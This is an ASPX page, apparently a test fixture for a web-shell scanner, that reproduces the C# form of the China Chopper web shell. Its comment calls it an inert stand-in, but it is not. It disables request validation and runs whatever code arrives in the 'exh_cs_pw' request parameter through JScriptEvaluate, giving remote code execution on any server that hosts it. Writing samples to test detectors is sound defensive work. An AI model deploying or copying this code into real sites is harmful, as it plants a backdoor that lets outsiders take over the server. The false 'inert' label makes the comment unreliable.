<%@ Page Language="C#" ValidateRequest="false" %>
<%
	/* exhume test sample: inert stand-in for the C# form of China Chopper. */
	if (Request["exh_cs_pw"] != null) {
		Microsoft.JScript.Eval.JScriptEvaluate(Request.Item["exh_cs_pw"], Microsoft.JScript.Vsa.VsaEngine.CreateEngine());
	}
%>
